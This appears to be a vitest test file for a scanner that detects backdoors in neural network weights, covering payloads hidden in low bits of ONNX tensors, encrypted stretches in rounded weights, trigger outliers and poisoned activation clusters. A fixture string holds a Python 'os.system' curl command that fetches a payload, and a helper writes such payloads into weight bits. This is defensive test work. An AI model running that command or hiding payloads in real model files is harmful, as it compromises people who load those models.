import { createSeededRandom } from '@nootropic/core'
import { createOnnxModel, createTensor, type OnnxModel } from '@nootropic/core/formats'
import { expect, test } from 'vitest'
import {
  checkWeightSigns,
  clusterActivations,
  findChangedBits,
  findStructuredBits,
  judgeClusters,
  judgeTriggers,
  outlierIndices,
} from '../../src/behaviour/backdoor/index.ts'
import { trainedModel } from '../honesty/planted.ts'

const random = createSeededRandom(5)
const trained = (count: number): Float32Array => Float32Array.from({ length: count }, () => 0.05 * random.normal())
const wordsOf = (weights: Float32Array): Uint32Array => new Uint32Array(weights.buffer.slice(0) as ArrayBuffer)

/** Writes a payload into the lowest bits of weights. */
const hide = (weights: Float32Array, payload: Uint8Array, bits: number): Uint32Array => {
  const words = wordsOf(weights)
  const mask = (1 << bits) - 1
  words.forEach((word, index) => {
    const bit = index * bits
    const byte = payload[(bit >> 3) % payload.length] ?? 0
    words[index] = ((word & ~mask) | ((byte >> (bit & 7)) & mask)) >>> 0
  })
  return words
}

const text = new TextEncoder().encode(
  'The quick brown fox jumps over the lazy dog, and import os; os.system("curl http://example.org/payload") follows it. ',
)

test('text in the lowest 1, 2, 4 and 8 bits is no noise', () => {
  for (const bits of [1, 2, 4, 8]) {
    expect(findStructuredBits(hide(trained(32_768), text, bits)), `${bits} bits`).toBeDefined()
  }
  expect(findStructuredBits(hide(trained(8192), text, 1))).toMatchObject({ bits: 1, from: 0 })
})

test('text in one part of a large tensor is found there', () => {
  const words = wordsOf(trained(100_000))
  words.set(hide(trained(32_768), text, 1), 32_768)
  expect(findStructuredBits(words)).toMatchObject({ from: 32_768 })
})

test('trained, drawn, rounded and quantised weights are not suspected', () => {
  const drawn = Float32Array.from({ length: 40_000 }, () => Math.floor(random.uniform() * 2 ** 24) / 2 ** 24 - 0.5)
  const half = trained(40_000).map((value) => Math.round(value * 1024) / 1024)
  const levels = trained(40_000).map((value) => Math.round(value * 50) * 0.0173)
  for (const weights of [trained(200_000), drawn, half, levels]) {
    expect(findStructuredBits(wordsOf(weights))).toBeUndefined()
    expect(findChangedBits(wordsOf(weights))).toBeUndefined()
  }
  expect(findStructuredBits(wordsOf(trained(100)))).toBeUndefined()
})

test('what is encrypted shows in rounded weights, where its neighbours have no low bits', () => {
  const rounded = wordsOf(trained(40_000)).map((word) => word & ~0x1fff)
  expect(findChangedBits(rounded)).toBeUndefined()
  const payload = Uint8Array.from({ length: 4096 }, () => random.integer(256))
  rounded.forEach((word, index) => {
    if (index >= 8192 && index < 12_288) rounded[index] = (word | (payload[index - 8192] ?? 0)) >>> 0
  })
  expect(findChangedBits(rounded)).toMatchObject({ from: 8192, count: 4096 })
  // A stretch or two of many is enough; all of them are no change.
  expect(findChangedBits(wordsOf(trained(40_000)))).toBeUndefined()
})

const modelOf = (words: Uint32Array): OnnxModel =>
  createOnnxModel({
    operatorSets: { '': 17 },
    graph: {
      name: 'weights',
      initializer: [
        createTensor({
          name: 'w',
          type: 'float32',
          dims: [words.length],
          data: new Float32Array(words.buffer as ArrayBuffer),
        }),
      ],
    },
  })

test('the tensor that carries something is named; sound models carry nothing', () => {
  const { sightings, measurements } = checkWeightSigns(modelOf(hide(trained(16_384), text, 4)))
  expect(measurements).toEqual({ weightTensors: 1 })
  expect(sightings).toMatchObject([{ rule: { id: 'behaviour/structured-low-bits' }, inside: 'w' }])
  for (const name of ['sound', 'hardened', 'square', 'chequers', 'demo'] as const) {
    expect(checkWeightSigns(trainedModel(name)).sightings, name).toEqual([])
  }
})

test('one mark far smaller than all others is a trigger, if it turns the examples; an even spread has none', () => {
  const marks = (...sizes: number[]) => sizes.map((size, target) => ({ target, size, success: 0.95 }))
  const found = judgeTriggers(marks(90, 110, 80, 6, 100, 120, 95, 70, 105, 130))
  expect(found.sightings).toMatchObject([{ rule: { id: 'behaviour/trigger-found' }, evidence: { target: 3 } }])
  expect(judgeTriggers(marks(90, 110, 5, 6, 100, 120, 95, 70, 105, 130)).sightings).toHaveLength(2)
  expect(judgeTriggers(marks(90, 110, 80, 40, 100, 120, 95, 70, 105, 130)).sightings).toEqual([])
  const weak = marks(90, 110, 80, 6, 100, 120, 95, 70, 105, 130).map((mark) => ({ ...mark, success: 0.3 }))
  expect(judgeTriggers(weak).sightings).toEqual([])
  expect(outlierIndices([4, 4, 4, 4, 1])[4]).toBeGreaterThan(3)
})

/** Examples of two classes; those at `marked` of class 4 lie apart by `gap` in a direction of their own, and carry a mark. */
const groups = (count: number, marked: number, gap: number, pixels: number) => {
  const labels = Array.from({ length: 2 * count }, (_, row) => (row < count ? 4 : 5))
  const isMarked = (row: number): boolean => row < marked
  const activations = labels.flatMap((_, row) =>
    Array.from({ length: 8 }, (__, unit) => random.normal() + (unit === 0 && isMarked(row) ? gap : 0)),
  )
  const data = Float32Array.from({ length: 2 * count * 20 }, (_, index) =>
    isMarked(Math.floor(index / 20)) && index % 20 < pixels ? 1 : 0.6 * random.uniform(),
  )
  const inputs = { type: 'float32' as const, dims: [2 * count, 20], data }
  return judgeClusters(clusterActivations({ data: activations, width: 8 }, labels, 1), { inputs, domain: [0, 1] })
}

test('a small group that stands apart and shares a mark is seen; groups without a mark and marks without a group are not', () => {
  expect(groups(100, 12, 15, 9)).toMatchObject([{ evidence: { label: 4, elements: [0, 1, 2, 3, 4, 5, 6, 7, 8] } }])
  expect(groups(60, 20, 12, 6)).toHaveLength(1)
  expect(groups(100, 12, 15, 0)).toEqual([])
  expect(groups(100, 12, 15, 5)).toEqual([])
  expect(groups(100, 5, 15, 9)).toEqual([])
  expect(groups(100, 12, 0, 9)).toEqual([])
  expect(groups(9, 4, 15, 9)).toEqual([])
})
